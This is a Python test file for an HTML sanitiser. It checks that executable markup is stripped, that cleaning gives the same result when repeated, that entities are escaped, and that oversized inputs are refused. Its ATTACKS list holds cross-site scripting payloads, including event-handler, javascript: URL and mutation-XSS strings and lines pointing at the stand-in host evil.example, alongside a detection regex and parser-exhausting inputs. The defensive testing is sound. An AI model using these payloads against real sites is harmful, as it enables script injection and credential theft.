"""HTML sanitising: nothing that runs stays, twice is once, and nothing takes long."""

from __future__ import annotations

import re

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.admission import markup
from gateway.admission.markup import Sanitiser
from gateway.config import Config
from gateway.errors import Refusal
from gateway.ports import Unsanitised

LIMITS = Config().limits


def sanitised(text: str) -> str:
    return Sanitiser(LIMITS.html_bytes_max, LIMITS.html_tags_max).cleaned(text)


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    "<iframe src=//evil.example></iframe>",
    "<style>*{background:url(//evil.example)}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<form action=//evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<object data=x></object><embed src=x>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><x onclick=1>y</x>",
    "</title><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<b onmouseover=alert(1)",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
]
DANGEROUS = re.compile(
    r"<(script|iframe|style|form|input|meta|base|object|embed|svg|math|noscript)\b|<[^>]*\son\w+=|<[^>]*(javascript|data):",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_could_run_is_taken_out_and_twice_is_once(attack: str) -> None:
    for text in (attack, f"before {attack} after", attack * 2):
        cleaned = sanitised(text)
        assert not DANGEROUS.search(cleaned)
        assert sanitised(cleaned) == cleaned


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("", ""),
        ("R&D, a < b", "R&amp;D, a &lt; b"),
        ("R&amp;D, a &lt; b", "R&amp;D, a &lt; b"),
        ("x > y", "x &gt; y"),
        ("&lt;script&gt;", "&lt;script&gt;"),
        ("<b>R&D</b>", "<b>R&amp;D</b>"),
    ],
)
def test_what_is_stored_is_html_with_or_without_tags(text: str, wanted: str) -> None:
    assert sanitised(text) == wanted


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("a<b and c<d", "a&lt;b and c&lt;d"),
        ("<b>x</b> a<b", "<b>x</b> a&lt;b"),
        ("R&D <img src=x onerror=alert(1) ", "R&amp;D &lt;img src=x onerror=alert(1) "),
    ],
)
def test_an_unfinished_tag_stays_as_text(text: str, wanted: str) -> None:
    assert sanitised(text) == wanted


def test_harmless_formatting_stays() -> None:
    text = (
        '<p>Hello <b>all</b>, <i>see</i> <a href="https://a.example/" rel="noopener noreferrer">this</a></p>'
    )
    assert sanitised(text) == text


soup = st.lists(
    st.sampled_from(
        [
            *("<", ">", "/", "!", "?", "&", ";", "=", '"', "'", " ", "--", "a", "b", "\n", "&lt;", "&#60;"),
            *(
                "script",
                "style",
                "svg",
                "math",
                "table",
                "td",
                "p",
                "template",
                "onload",
                "javascript:",
                "href",
            ),
            *("<!--", "-->", "<![CDATA["),
        ]
    ),
    max_size=40,
).map("".join)


@given(text=soup | st.text())
@settings(max_examples=1000, deadline=None)
def test_any_text_is_cleaned_for_good_in_one_go(text: str) -> None:
    cleaned = sanitised(text)
    assert sanitised(cleaned) == cleaned
    assert not re.search(r"<(script|style|iframe|svg|math)\b|<[^>]*\sonload\s*=", cleaned, re.IGNORECASE)


# ------------------------------------------------------------------------------------------- bounded

ATTRIBUTES = " ".join(f"a{number:x}" for number in range(1000))
FORMATTING = "".join(f"<font color={number}>" for number in range(900))
EXPENSIVE = [
    "".join(f"<p><font color={number}>x" for number in range(4000)),  # 85 KB that took 9 s and gigabytes
    "".join(f"<p><font color={number}>x" for number in range(900)),
    FORMATTING + "<p>x" * 900,
    f"<p><b {ATTRIBUTES}>" + "<p>x" * 5000,
    f"<P><B\n{ATTRIBUTES}>" + "<p>x" * 5000,
    f"<p><b title='>' {ATTRIBUTES}>" + "<p>x" * 5000,
    f'<p><b a"="x> {ATTRIBUTES}">' + "<p>x" * 5000,
    f"<p><b/{ATTRIBUTES.replace(' ', '/')}>" + "<p>x" * 5000,
    f"<p><b <x {ATTRIBUTES}>" + "<p>x" * 5000,
    "".join(f"<b {number} {ATTRIBUTES[:200]}>" for number in range(200)),
    "<div>" * 20_000,
    "<div>" * 6000 + "</p>" * 6000,
    "<" * 70_000,
    "<b>" * 70_000,
    "&" * 70_000,
]


@pytest.mark.parametrize("text", EXPENSIVE)
def test_what_would_take_long_is_refused_before_it_is_parsed(
    text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(nh3, "clean", None)
    with pytest.raises(Refusal, match="HTML is too much to be made safe: it has") as caught:
        sanitised(text)
    assert caught.value.code == "TOO_LARGE"


def test_what_grows_too_large_by_being_cleaned_is_refused() -> None:
    text = "<p>" + "".join(f"<b x{number}>" for number in range(50)) + "<p>x" * 2300
    assert len(text) < 10_000 < LIMITS.html_bytes_max < len(nh3.clean(text))
    with pytest.raises(Refusal, match=f"at most {LIMITS.html_bytes_max} are allowed"):
        sanitised(text)


def test_a_long_page_of_a_rich_text_editor_is_accepted() -> None:
    paragraph = (
        '<p><span>Dear <b>all</b>,</span> <a href="https://a.example/?a=1&amp;b=2" '
        'rel="noopener noreferrer">this</a><br><i>and</i> <font>that</font></p>\n'
    )
    text = nh3.clean(paragraph * 400)
    assert 50_000 < len(text) <= LIMITS.html_bytes_max
    assert sanitised(text) == text


def test_what_is_quick_is_cleaned_at_once_and_the_rest_in_a_thread() -> None:
    sanitiser = Sanitiser(LIMITS.html_bytes_max, LIMITS.html_tags_max)
    assert sanitiser.sanitised("<b onclick=x>hi</b>") == "<b>hi</b>"
    for text in ("<p>x</p>" * 1000, "x" * 5000, *EXPENSIVE):
        with pytest.raises(Unsanitised) as caught:
            sanitiser.sanitised(text)
        assert caught.value.texts == [text]
    sanitiser.keep({"x" * 5000: sanitiser.cleaned("x" * 5000)})
    assert sanitiser.sanitised("x" * 5000) == "x" * 5000
    refusal = Refusal("TOO_LARGE", "no")
    sanitiser.keep({EXPENSIVE[0]: refusal})
    with pytest.raises(Refusal) as refused:
        sanitiser.sanitised(EXPENSIVE[0])
    assert refused.value is refusal


def test_only_so_much_of_what_was_cleaned_is_kept(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markup, "_KEPT_BYTES_MAX", 20_000)
    sanitiser = Sanitiser(LIMITS.html_bytes_max, LIMITS.html_tags_max)
    for letter in "abc":
        sanitiser.keep({letter * 9000: letter})
    with pytest.raises(Unsanitised):
        sanitiser.sanitised("a" * 9000)
    assert sanitiser.sanitised("c" * 9000) == "c"


def test_what_is_asked_for_together_is_kept_together(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markup, "_KEPT_BYTES_MAX", 20_000)
    sanitiser = Sanitiser(LIMITS.html_bytes_max, LIMITS.html_tags_max)
    sanitiser.keep({letter * 9000: letter for letter in "abcd"})
    assert [sanitiser.sanitised(letter * 9000) for letter in "abcd"] == list("abcd")
